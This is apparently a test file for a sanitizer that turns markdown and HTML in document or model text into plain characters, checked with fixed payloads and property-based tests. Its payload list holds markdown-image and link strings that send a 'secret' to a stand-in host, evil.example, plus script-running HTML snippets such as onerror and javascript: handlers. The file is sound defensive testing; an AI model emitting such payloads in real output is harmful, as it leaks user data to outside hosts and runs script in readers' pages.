"""No page makes a picture, a link or markup of what a document or a model says."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from graft.plain import Plain, plain

PAYLOADS = (
    "![x](https://evil.example/p.png?q=secret)",
    "![x](<https://evil.example/p.png?q=secret>)",
    "[click](https://evil.example/?q=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "   [1]: https://evil.example/p.png\n![1]",
    "[x]: <https://evil.example/>\n[x]",
    "<img src=https://evil.example/p.png>",
    "<IMG SRC='x' onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--x--><script>alert(1)</script>",
    "<?xml version='1.0'?><x/>",
    "<https://evil.example/?q=secret>",
    "[x](//evil.example/?q=secret)",
    "text ![a\nb](https://evil.example/p.png)",
)
ACTIVE = re.compile(r"<(?!/?(?:p|ul|ol|li|h[1-6]|em|strong|code|pre|blockquote|hr|br)\b)[a-zA-Z!/?]")


def shown(text: str) -> str:
    """As a page that trusts what it gets would show it: HTML passes, links are made."""
    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_becomes_words(payload: str) -> None:
    assert ACTIVE.search(shown(payload)), "this would do no harm anyway"
    made = plain(payload)
    assert not ACTIVE.search(shown(made)), shown(made)
    assert len(made) == len(payload)


@given(st.text(alphabet='![]()<>:/" \nab1&;`', max_size=60))
def test_no_text_becomes_markup_and_every_character_keeps_its_place(text: str) -> None:
    made = plain(text)
    assert len(made) == len(text) and not ACTIVE.search(shown(made))


@given(st.text(alphabet="![]()<:/ \nab", max_size=40), st.lists(st.integers(0, 40), max_size=6))
def test_pieces_are_made_plain_as_the_whole_is(text: str, cuts: list[int]) -> None:
    places = [0, *sorted(cuts), len(text)]
    made = Plain()
    pieces = [made.feed(text[start:end]) for start, end in pairwise(places) if start <= end]
    assert "".join(pieces) + made.end() == plain(text)


def test_ordinary_words_and_citation_marks_stay_as_they_are() -> None:
    for words in ("A hotel may cost 140 EUR (a night). [1] [2]", "3 < 4 and a <= b", "see [1][2]", "Note: [a] : b"):
        assert plain(words) == words
